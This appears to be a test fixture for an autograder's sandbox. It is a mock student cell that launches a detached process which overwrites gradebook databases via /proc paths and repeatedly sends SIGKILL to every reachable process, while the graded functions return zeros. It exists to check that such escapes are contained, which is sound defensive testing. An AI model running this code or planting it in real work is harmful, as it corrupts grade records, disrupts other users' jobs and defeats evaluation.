# A detached process (own session) outlives the cell, waits, then tries to rewrite the gradebook and kill every
# process it can (other students' workers). It must die with its student.
# cell: normalize
import subprocess, sys
code = r"""
import os, glob, time, signal
time.sleep(2)
for path in ["{COURSE}/gradebook.db"] + glob.glob("/proc/*/root{COURSE}/gradebook.db") + glob.glob("/proc/*/cwd/gradebook.db"):
    try:
        with open(path, "r+b") as f:
            f.write(b"pwned")
    except OSError:
        pass
end = time.time() + 120
while time.time() < end:
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    time.sleep(0.05)
"""
subprocess.Popen([sys.executable, "-c", code], start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
def normalize(y, box): return np.zeros((1, 2))
def denormalize(n, box): return np.zeros((1, 2))
